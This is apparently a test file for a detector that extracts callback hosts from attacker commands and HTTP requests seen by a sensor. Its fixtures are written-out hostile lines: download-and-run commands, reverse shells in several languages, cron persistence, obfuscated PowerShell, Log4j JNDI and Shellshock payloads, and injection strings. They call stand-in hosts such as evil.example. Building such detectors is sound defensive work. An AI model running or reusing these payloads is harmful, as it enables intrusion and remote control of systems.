import { describe, expect, it } from "vitest";
import { type CallbackSource, findCallbacks } from "./find-callbacks.ts";

const find = (source: CallbackSource) => findCallbacks(source, (address) => address === "45.9.9.9");
/** As `scheme://host:port/path`, in the order of finding. */
const told = (source: CallbackSource) =>
  find(source).map(({ scheme, host, port, path }) => `${scheme}://${host}:${port}${path}`);
const typed = (...commands: string[]) => told({ commands });
const base64 = (text: string) => Buffer.from(text).toString("base64");
const utf16 = (text: string) => Buffer.from(text, "utf16le").toString("base64");

const BINS = "http://45.0.0.1:80/bins.sh";

describe("a command names whom it calls", () => {
  it.each<[command: string, ...expected: string[]]>([
    ["wget http://45.0.0.1/bins.sh", BINS],
    ["cd /tmp || cd /run; wget http://45.0.0.1/bins.sh; sh bins.sh", BINS],
    ["/bin/busybox wget http://45.0.0.1/bins.sh -O -> .t; ./.t", BINS],
    ["wget -q -O - 'http://45.0.0.1/bins.sh' | sh", BINS],
    ["wget --user-agent=curl.example -U a.example -O update.sh http://45.0.0.1/bins.sh", BINS],
    ["wget -i http://45.0.0.1/bins.sh", BINS],
    ["wget 45.0.0.1/bins.sh", BINS],
    ["wget -g 45.0.0.1 -l /tmp/.x -r /bins.sh", BINS],
    ["wget http:/\\/45.0.0.1/bins.sh", BINS],
    ["wget http://me:secret@45.0.0.1/bins.sh", BINS],
    ["wget http://0x2d000001/bins.sh", BINS],
    ["wget 754974721/bins.sh", BINS],
    ["w''get ht\"tp://4\"5.0.0.1/b'ins.s'h", BINS],
    ["IP=45.0.0.1; wget http://$IP/bins.sh", BINS],
    ["export S=http://45.0.0.1 F=bins.sh; wget ${S}/${F}", BINS],
    ["wget http://${H:-45.0.0.1}/bins.sh", BINS],
    ["for a in 45.0.0.1; do wget http://$a/bins.sh; done", BINS],
    ["wget${IFS}http://45.0.0.1/bins.sh", BINS],
    ["wget$IFS$9http://45.0.0.1/bins.sh", BINS],
    ["{wget,-q,http://45.0.0.1/bins.sh}", BINS],
    ["sh -c 'wget http://45.0.0.1/bins.sh'", BINS],
    ['x=$(wget -qO- http://45.0.0.1/bins.sh); eval "$x"', BINS],
    ["`wget -qO- http://45.0.0.1/bins.sh`", BINS],
    ["bash <(wget -qO- http://45.0.0.1/bins.sh)", BINS],
    ['echo "* * * * * root wget http://45.0.0.1/bins.sh|sh" >> /etc/crontab', BINS],
    ["(crontab -l; echo '* * * * * wget -q http://45.0.0.1/bins.sh') | crontab -", BINS],
    ['SET x "\\n\\n*/1 * * * * wget http://45.0.0.1/bins.sh\\n"', BINS],
    [`echo ${base64("wget http://45.0.0.1/bins.sh|sh")} | base64 -d | sh`, BINS],
    [`base64 --decode <<< ${base64("wget http://45.0.0.1/bins.sh")} | bash`, BINS],
    [`bash -c {echo,${base64("wget http://45.0.0.1/bins.sh")}}|{base64,-d}|{bash,-i}`, BINS],
    [`echo '* * * * * root echo ${base64("vurl http://45.0.0.1/bins.sh")}|base64 -d|bash' >/etc/crontab`, BINS],
    ["echo -e '\\x77get http://45.0.0.1/bins.sh' | sh", BINS],
    ["./loader http://45.0.0.1/bins.sh", BINS],
    ["curl -A a.example -H 'Host: b.example' -e c.example -o d.sh http://45.0.0.1/bins.sh", BINS],
    ["curl -sO http://45.0.0.1/bins.sh http://45.0.0.2/y", BINS, "http://45.0.0.2:80/y"],
    ["curl cdn.evil.example/x|bash", "http://cdn.evil.example:80/x"],
    ["curl evil.example", "http://evil.example:80/"],
    ["curl -x 45.0.0.1:3128 http://evil.example", "http://evil.example:80/", "http://45.0.0.1:3128/"],
    ["curl -fsSL https://EVIL.example./x?a=1#top", "https://evil.example:443/x?a=1"],
    ["curl http://b\\ü\\cher.example/x", "http://xn--bcher-kva.example:80/x"],
    ["tftp -g -r x.sh 45.0.0.1", "tftp://45.0.0.1:69/x.sh"],
    ["tftp -r x.sh -g 45.0.0.1 6969", "tftp://45.0.0.1:6969/x.sh"],
    ["busybox tftp -l .a -r x.sh -g 45.0.0.1", "tftp://45.0.0.1:69/x.sh"],
    ["tftp 45.0.0.1 -c get x.sh", "tftp://45.0.0.1:69/x.sh"],
    ["tftp.exe -i 45.0.0.1 GET x.exe", "tftp://45.0.0.1:69/x.exe"],
    ["ftpget -v -u anonymous -p anonymous -P 2121 45.0.0.1 f.sh f.sh", "ftp://45.0.0.1:2121/f.sh"],
    ["echo open 45.0.0.1 2121 > f & echo get x.exe >> f & ftp -s:f", "ftp://45.0.0.1:2121"],
    ["nc 45.0.0.1 4444 -e /bin/sh", "tcp://45.0.0.1:4444"],
    ["rm f;mkfifo f;cat f|sh -i 2>&1|nc evil.example 4444 >f", "tcp://evil.example:4444"],
    ["nc -u 45.0.0.1 53", "udp://45.0.0.1:53"],
    ["telnet 45.0.0.1 2323 | sh", "telnet://45.0.0.1:2323"],
    ["bash -i >& /dev/tcp/45.0.0.1/4444 0>&1", "tcp://45.0.0.1:4444"],
    ["H=45.0.0.1; exec 5<>/dev/udp/$H/53", "udp://45.0.0.1:53"],
    ["socat exec:sh,pty TCP:45.0.0.1:4444", "tcp://45.0.0.1:4444"],
    ["ssh -p 2222 -R 0:localhost:22 me@45.0.0.1", "ssh://45.0.0.1:2222"],
    ["scp -P 2222 me@evil.example:/x/y .", "scp://evil.example:2222/x/y"],
    ["rsync -av evil.example::mod/x .", "rsync://evil.example:873/mod/x"],
    ["git clone https://evil.example/r.git", "https://evil.example:443/r.git"],
    ["python3 -c 'import socket;s=socket.socket();s.connect((\"45.0.0.1\",4444))'", "tcp://45.0.0.1:4444"],
    ["python -c \"import urllib2; print urllib2.urlopen('http://45.0.0.1/bins.sh').read()\"", BINS],
    [`python -c "exec(__import__('base64').b64decode('${base64("urlopen('http://45.0.0.1/bins.sh')")}'))"`, BINS],
    [`php -r 'eval(base64_decode("${base64('$s=fsockopen("45.0.0.1",4444);')}"));'`, "tcp://45.0.0.1:4444"],
    ["perl -e 'use Socket;$i=\"45.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,6);'", "tcp://45.0.0.1:4444"],
    ["ruby -rsocket -e 'f=TCPSocket.open(\"45.0.0.1\",4444).to_i'", "tcp://45.0.0.1:4444"],
    ["lwp-download http://45.0.0.1/bins.sh", BINS],
    ["certutil.exe -urlcache -split -f http://45.0.0.1/bins.sh x", BINS],
    ["bitsadmin /transfer j http://45.0.0.1/bins.sh C:\\x", BINS],
    ["regsvr32 /s /n /u /i:http://45.0.0.1/bins.sh scrobj.dll", BINS],
    ["powershell -c \"(New-Object Net.WebClient).DownloadFile('http://45.0.0.1/bins.sh','x')\"", BINS],
    ["IEX (New-Object Net.WebClient).DownloadString('http://45.0.0.1/bins.sh')", BINS],
    ["powershell iwr -Uri http://45.0.0.1/bins.sh -OutFile x -UserAgent http://ua.example", BINS],
    [
      `powershell -nop -w hidden -enc ${utf16("IEX(New-Object Net.WebClient).DownloadString('http://45.0.0.1/bins.sh')")}`,
      BINS,
    ],
    ["powershell \"$c=New-Object Net.Sockets.TCPClient('45.0.0.1',4444)\"", "tcp://45.0.0.1:4444"],
    ["SLAVEOF 45.0.0.1 6379", "redis://45.0.0.1:6379"],
    ["./xmrig -o stratum+tcp://pool.evil.example:3333 -u w", "stratum+tcp://pool.evil.example:3333"],
    ["./kdevtmpfsi -o pool.evil.example:3333 -u w", "tcp://pool.evil.example:3333"],
  ])("%s", (command, ...expected) => {
    expect(typed(command)).toEqual(expected);
  });
});

describe("a command without a callback", () => {
  it.each([
    "uname -a",
    "wget; tftp; /bin/busybox SATORI",
    "wget bins.sh",
    "wget -O update.sh",
    "curl -U a.example -A b.example -e http://c.example -H 'Host: d.example'",
    "apt-get install -y wget curl python3.8",
    "wget hxxp://45.0.0.1/x",
    "wget http://45[.]0[.]0[.]1/x",
    "curl hxxps://evil[.]example/x",
    "wget http://192.168.1.1:8088/Mozi.m",
    "wget http://127.0.0.1/x; wget http://localhost/x; curl http://printer.local/x",
    "wget http://2130706433/x",
    "wget http://45.9.9.9/own",
    "wget http://server/x",
    "wget http://-bad-.example/x",
    "wget http://[2001:db8::1]/x",
    "wget http://45.0.0.1:99999/x",
    "nc -lvp 4444",
    "echo http://evil.example/x",
    "GET http://evil.example/ HTTP/1.1",
    "Referer: http://evil.example/",
    "# wget http://45.0.0.1/x",
    "SLAVEOF NO ONE",
    "openssl version 45.0.0.1",
    "cat /proc/version 5.4.0.1",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
  ])("%s", (command) => {
    expect(typed(command)).toEqual([]);
  });
});

describe("a lookup of Log4j", () => {
  it.each<[text: string, expected: string]>([
    ["${jndi:ldap://45.0.0.1:1389/a}", "ldap://45.0.0.1:1389/a"],
    ["${jndi:ldap://evil.example/a}", "ldap://evil.example:389/a"],
    ["${${lower:J}ndi:${::-r}${::-m}i://evil.example/a}", "rmi://evil.example:1099/a"],
    ["${${env:X:-j}${sys:Y:-n}di${date:':'}dns://evil.example}", "dns://evil.example:53"],
    ["${jn${upper:d}i:ldap://${hostName}.evil.example/${env:USER}}", "ldap://evil.example:389/"],
    ["${jndi:ldap://127.0.0.1#evil.example:1389/a}", "ldap://evil.example:1389/a"],
    ["%24%7Bjndi:ldap://evil.example/a%7D", "ldap://evil.example:389/a"],
    ["${jndi:ldap://evil.example/a", "ldap://evil.example:389/a"],
  ])("%s", (text, expected) => {
    expect(
      told({ http: { user_agent: text.startsWith("%") ? "" : text } }).concat(told({ http: { query: text } })),
    ).toContain(expected);
    expect(told({ http: { header_lines: [`X-Api-Version: ${text}`] } })).toEqual([expected]);
    expect(told({ credentials: [{ username: text, password: "x" }] })).toEqual([expected]);
  });

  it("may carry a command in its path", () => {
    const path = `Basic/Command/Base64/${base64("wget http://45.0.0.1/bins.sh|sh")}`;
    expect(told({ http: { user_agent: `\${jndi:ldap://evil.example:1389/${path}}` } })).toEqual([
      `ldap://evil.example:1389/${path}`,
      BINS,
    ]);
  });
});

describe("a request names whom to call", () => {
  const MOZI = "http://45.0.0.1:8088/Mozi.m";

  it.each<[what: string, http: NonNullable<CallbackSource["http"]>, ...expected: string[]]>([
    ["a query with + for blanks", { path: "/shell", query: "cd+/tmp;wget+http:/\\/45.0.0.1/bins.sh;sh+bins.sh" }, BINS],
    [
      "a query that is encoded",
      { path: "/shell", query: "cd%20/tmp;%20wget%20http:/%5C/45.0.0.1/bins.sh%20-O%20a" },
      BINS,
    ],
    ["a path", { path: "/cgi-bin/;cd${IFS}/tmp;wget${IFS}http://45.0.0.1/bins.sh" }, BINS],
    ["a parameter", { path: "/", query: "s=index/call&vars[1][]=wget http://45.0.0.1/bins.sh" }, BINS],
    ["letters that are encoded", { path: "/", query: "c=%77get%20http%3A%2F%2F45.0.0.1%2Fbins.sh" }, BINS],
    [
      "a form",
      { body: "ping=1&dest_host=``;wget+http://45.0.0.1:8088/Mozi.m+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0" },
      MOZI,
    ],
    [
      "a tag of XML",
      { body: "<NewStatusURL>$(/bin/busybox wget -g 45.0.0.1 -l /tmp/x -r /bins.sh; sh /tmp/x)</NewStatusURL>" },
      BINS,
    ],
    ["references of XML", { body: "<string>sh -c &quot;wget http://45.0.0.1/bins.sh&quot; &amp;</string>" }, BINS],
    ["a text of JSON", { body: '{"command":"sh -c \\"wget\\u0020http://45.0.0.1/bins.sh\\""}' }, BINS],
    [
      "the words of a container",
      { body: '{"Cmd":["chroot","/mnt","wget","-q","http://45.0.0.1/bins.sh"],"Image":"a"}' },
      BINS,
    ],
    ["JSON that was cut", { body: '{"Cmd":["sh","-c","curl cdn.evil.example/x|bash' }, "http://cdn.evil.example:80/x"],
    ["a call of PHP", { body: "<?php include('http://45.0.0.1/bins.sh'); ?>" }, BINS],
    [
      "a class that is looked up",
      { body: '{"dataSourceName":"rmi://evil.example:1099/Exploit"}' },
      "rmi://evil.example:1099/Exploit",
    ],
    ["a user agent", { user_agent: '() { :; }; /bin/bash -c "wget http://45.0.0.1/bins.sh"' }, BINS],
    [
      "a header",
      { header_lines: ["Cookie: x=() { :; }; /bin/bash -i >& /dev/tcp/45.0.0.1/4444 0>&1"] },
      "tcp://45.0.0.1:4444",
    ],
    ["a reverse shell", { query: "c=bash+-i+>%26+/dev/tcp/45.0.0.1/4444+0>%261" }, "tcp://45.0.0.1:4444"],
  ])("in %s", (_what, http, ...expected) => {
    expect(told({ http })).toEqual(expected);
  });

  it.each<[what: string, http: NonNullable<CallbackSource["http"]>]>([
    ["a crawler's address", { user_agent: "Mozilla/5.0 (compatible; Bot/1.0; +https://bot.example/)" }],
    ["a client's name", { user_agent: "curl/7.54.0" }],
    ["a client's name with its home", { user_agent: "Wget/1.21 (https://wget.example/)" }],
    ["a referrer", { referer: "https://search.example/?q=wget+http%3A%2F%2F45.0.0.1%2Fx" }],
    ["an origin", { header_lines: ["Origin: https://evil.example", "X-Forwarded-For: 45.0.0.1"] }],
    ["a request to a proxy", { path: "http://evil.example/azenv.php" }],
    ["a parameter that is a URL", { path: "/proxy", query: "url=http://evil.example/x.txt" }],
    ["a file of that name", { path: "/wget.sh" }],
    ["a private address", { body: "todo=syscmd&cmd=wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/x;sh+x" }],
    ["defanged text", { body: "cmd=wget hxxp://45.0.0.1/x; curl evil[.]example/x" }],
  ])("but not in %s", (_what, http) => {
    expect(told({ http })).toEqual([]);
  });
});

describe("what a sensor downloaded", () => {
  const sha256 = "ab".repeat(32);

  it("is a callback with the digest of the same record", () => {
    expect(find({ urls: ["http://45.0.0.1/bins.sh"], payload_sha256: [sha256] })).toEqual([
      { host: "45.0.0.1", port: 80, scheme: "http", path: "/bins.sh", text: "http://45.0.0.1/bins.sh", sha256 },
    ]);
  });

  it("has no digest where it could be that of another file", () => {
    const urls = ["http://45.0.0.1/a", "ftp://evil.example/b"];
    expect(find({ urls, payload_sha256: [sha256] }).map((callback) => callback.sha256)).toEqual(["", ""]);
  });
});

it("shows the words around the host", () => {
  const command = `${"true;".repeat(190)}wget http://45.0.0.1/x;${"true;".repeat(10)}`;
  expect(find({ commands: [command] })[0]?.text).toBe(command);
  const body = `${"a=b&".repeat(500)}c=wget+http://45.0.0.1/x&${"a=b&".repeat(500)}`;
  const text = find({ http: { body } })[0]?.text ?? "";
  expect(text).toHaveLength(1_024);
  expect(text).toContain("c=wget+http://45.0.0.1/x&a=b");
});

it("leaves out a host that was cut with its text", () => {
  const command = `${"true;".repeat(201)}wget http://45.0.0.1`;
  expect(command).toHaveLength(1_025);
  expect(typed(command)).toEqual([]);
  expect(typed(`${command} `)).toEqual(["http://45.0.0.1:80/"]);
});

it("tells of the same call once, however often it is named", () => {
  const line = "${jndi:ldap://evil.example/a}";
  const header_lines = Array.from({ length: 40 }, (_, index) => `X-${index}: ${line}`);
  expect(told({ http: { header_lines } })).toEqual(["ldap://evil.example:389/a"]);
});

it("finds at most 64", () => {
  const commands = Array.from({ length: 60 }, (_, index) => `wget http://45.0.1.${index}/a http://45.0.2.${index}/a`);
  expect(find({ commands })).toHaveLength(64);
});
